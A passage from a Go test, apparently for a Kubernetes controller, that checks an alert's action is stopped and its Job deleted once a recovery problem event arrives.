	f.g.Expect(recovery.Spec.StateDetail).To(Equal("ok"))
	got := f.eventually(alert, phase(problemhookv1alpha1.PhaseSucceeded))
	f.g.Expect(got.Status.Actions[0].State).To(Equal(problemhookv1alpha1.ActionStopped))
	f.g.Expect(got.Status.Actions[0].Message).To(Equal("Stopped: the problem resolved (ProblemEvent " + recovery.Name + "); Job " + job.Name + " deleted"))
	f.waitJobs(0)
}
